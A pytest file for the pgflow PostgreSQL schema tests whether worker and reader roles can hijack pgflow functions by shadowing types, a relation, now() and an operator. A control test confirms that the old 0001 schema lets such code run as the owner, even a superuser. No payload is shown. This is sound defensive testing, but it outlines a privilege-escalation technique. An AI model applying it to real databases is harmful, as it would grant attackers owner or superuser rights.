@pytest.mark.parametrize("role", ["pgflow_worker", "pgflow_reader"])
def test_no_caller_object_takes_part_in_a_pgflow_function(
    twins: Twins, role: str, settings: tuple[str, ...]
) -> None:
    clean = baseline(twins.copy_url, role)
    with login(twins.url, role) as (name, url):
        seen = attack(url, twins.url, name, role, settings)
    # the harness is live: the traps exist, and fire wherever name lookup reaches them
    for via in ("type text", "relation runs read", "function now()", "operator @>"):
        assert f"{via} as {name}" in seen.armed, (via, seen.armed)
    assert {"text", "jsonb", "uuid", "int4", "int8", "bool", "timestamptz", "numeric", "interval",
            "name", "int", "integer", "bigint", "record", "runs", "step_tasks", "flows", "steps",
            "deps", "step_states", "workers"} <= seen.temp_types  # fmt: skip
    # ... and not one of them took part in a pgflow function, or gave the attacker anything
    assert seen.fired == ""
    assert seen.warnings == []
    assert seen.privileges == {"rolsuper": False, "rolcreaterole": False, "rolcreatedb": False,
                               "rolbypassrls": False, "rolreplication": False,
                               "member_of": [role], "pgflow_objects_owned": 0}  # fmt: skip
    # every granted function was called, and behaved exactly as for a clean session
    with psycopg.connect(twins.url) as admin:
        assert {fn["proname"] for fn in granted(admin, role)} == seen.session.called
    assert clean.errors() == EXPECTED_ERRORS[role]
    assert statuses(twins.copy_url) == FINAL_STATUSES[role]
    assert seen.session.log == clean.log
    assert state(twins.url) == state(twins.copy_url)


@pytest.mark.parametrize("role", ["pgflow_worker", "pgflow_reader"])
def test_control_the_same_attack_hijacks_the_released_0001_schema(
    empty_db_url: str, role: str
) -> None:
    with psycopg.connect(empty_db_url, autocommit=True) as admin:
        SchemaManager(admin, migrations()[:1]).install()
        seed(admin, role)
        owner, superuser = admin.execute(
            "select rolname, rolsuper from pg_roles where oid = "
            "(select nspowner from pg_namespace where nspname = 'pgflow')"
        ).fetchone()  # type: ignore[misc]
    with login(empty_db_url, role) as (name, url):
        seen = attack(url, empty_db_url, name, role)
    # the attacker's code ran inside pgflow functions, as the schema owner ...
    assert any(f" as {owner}" in w for w in seen.warnings), seen.warnings
    assert f" as {owner}" in seen.fired
    assert seen.privileges["rolsuper"] is superuser  # ... and a superuser owner made it one
